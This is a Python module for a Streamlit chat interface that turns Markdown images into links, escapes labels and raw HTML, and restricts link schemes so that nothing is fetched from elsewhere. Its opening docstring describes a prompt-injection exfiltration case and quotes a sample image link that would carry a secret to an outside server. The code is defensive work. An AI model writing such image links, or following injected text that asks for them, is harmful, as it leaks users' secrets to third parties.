"""Text shown through Markdown without loading anything from elsewhere.

Streamlit renders Markdown (messages, and also button labels, titles and captions), and a
Markdown image makes the viewer's browser fetch its address. A model answer that was told
(by a pasted document, say) to write `![x](https://anywhere/?d=<secret>)` would send the
secret to that server: the classic exfiltration channel of prompt injection. So:

- messages keep their Markdown, but every image becomes a link (`inert_markdown`): nothing
  is fetched unless the reader clicks, and the page says why the image is not shown;
- labels (titles, names) are plain text (`plain`): no Markdown at all;
- earlier messages drawn together as one block of HTML (`message_html`) are rendered here,
  with raw HTML shown as text, images as links and only web and mail links kept.

The Content-Security-Policy (chat/web/headers.py) is the second line: even an image that
slipped through is not loaded from another origin.
"""

from __future__ import annotations

import html
import itertools
import re
from collections.abc import Iterable, Iterator, Sequence
from functools import lru_cache
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.token import Token

IMAGES_AS_LINKS_NOTE = (
    "Images from other sites are shown as links, not loaded: loading one would tell that "
    "site what you are reading."
)
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>$:=&])")
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_INLINE_CODE = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)
_IMAGE_START = re.compile(r"!(?=\[)")


def plain(text: str) -> str:
    """Stored text shown literally where Streamlit reads Markdown (button labels, titles,
    captions): no formatting, links or images, whitespace runs as one space."""
    return _MARKDOWN_SPECIAL.sub(r"\\\1", " ".join(text.split()))


def _unimage(text: str) -> str:
    """`![alt](url)` becomes `!\\[alt](url)`: a "!" and then a link, outside code spans
    (where Markdown draws no image and a backslash would show)."""
    out: list[str] = []
    last = 0
    for code in _INLINE_CODE.finditer(text):
        out.append(_IMAGE_START.sub("!\\\\", text[last : code.start()]))
        out.append(code.group(0))
        last = code.end()
    out.append(_IMAGE_START.sub("!\\\\", text[last:]))
    return "".join(out)


def literal_markdown(text: str) -> str:
    """What a person typed, shown exactly as typed where Streamlit reads Markdown: no
    formatting, every line break kept, leading spaces kept (pasted code keeps its layout)."""
    lines = []
    for line in text.split("\n"):
        body = line.lstrip(" ")
        lines.append("\u00a0" * (len(line) - len(body)) + _MARKDOWN_SPECIAL.sub(r"\\\1", body))
    # A hard break between two lines of text; an empty line stays empty (a paragraph).
    return (
        "".join(
            line + ("  \n" if line.strip() and following.strip() else "\n")
            for line, following in itertools.pairwise(lines)
        )
        + lines[-1]
    )


def _with_line_breaks(prose: str) -> str:
    """A single line break is a line break, as typed (Markdown would join the lines)."""
    return re.sub(r"(?<=\S)[ \t]*\n(?=[ \t]*\S)", "  \n", prose)


def inert_markdown(text: str) -> tuple[str, bool]:
    """The text as Markdown in which no image loads and line breaks are kept, and whether
    any image was turned into a link. Fenced code blocks are left as they are (Markdown
    draws no image in them)."""
    out: list[str] = []
    prose: list[str] = []
    changed = False

    def flush() -> None:
        nonlocal changed
        joined = "".join(prose)
        unimaged = _unimage(joined)
        changed = changed or unimaged != joined
        out.append(_with_line_breaks(unimaged))
        prose.clear()

    fence: str | None = None
    for line in text.splitlines(keepends=True):
        marker = _FENCE.match(line)
        if fence is None and marker:
            flush()
            fence = marker.group(1)[0] * len(marker.group(1))
            out.append(line)
        elif fence is not None:
            out.append(line)
            if marker and marker.group(1).startswith(fence):
                fence = None
        else:
            prose.append(line)
    flush()
    return "".join(out), changed


def inert_stream(chunks: Iterable[str]) -> Iterator[str]:
    """Streamed Markdown with every image start escaped as it arrives (code included: the
    stored answer is drawn again, code-aware, once the stream ends). A chunk ending in "!"
    is held back until the next one shows whether a "[" follows."""
    pending = ""
    for chunk in chunks:
        text = pending + chunk
        pending = "!" if text.endswith("!") else ""
        text = text[:-1] if pending else text
        if text:
            yield _IMAGE_START.sub("!\\\\", text)
    if pending:
        yield pending


_SAFE_LINK = re.compile(r"^(https?:|mailto:|#|/(?!/))", re.IGNORECASE)
_LINK_ATTRIBUTES = {"rel": "nofollow noopener noreferrer", "target": "_blank"}


def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    for name, value in _LINK_ATTRIBUTES.items():
        tokens[idx].attrSet(name, value)
    rendered: str = self.renderToken(tokens, idx, options, env)
    return rendered


def _image_as_link(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    image = tokens[idx]
    alt = escapeHtml(self.renderInlineAsText(image.children or [], options, env)) or "image"
    source = escapeHtml(str(image.attrGet("src") or ""))
    attributes = " ".join(f'{name}="{value}"' for name, value in _LINK_ATTRIBUTES.items())
    return f'!<a href="{source}" {attributes}>{alt}</a>'


def _markdown_renderer() -> MarkdownIt:
    renderer = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(
        ["table", "strikethrough"]
    )
    renderer.validateLink = lambda url: bool(_SAFE_LINK.match(url.strip()))  # type: ignore[method-assign]
    renderer.add_render_rule("link_open", _link_open)
    renderer.add_render_rule("image", _image_as_link)
    return renderer


_RENDERER = _markdown_renderer()


@lru_cache(maxsize=4096)
def message_html(text: str, *, literal: bool) -> str:
    """A message as HTML that loads and runs nothing: Markdown (a model's answer) with raw
    HTML escaped, images as links and only web and mail links; or, `literal`, the text
    exactly as typed (a person's message), to be shown with its line breaks kept."""
    if literal:
        return html.escape(text)
    return _RENDERER.render(text)
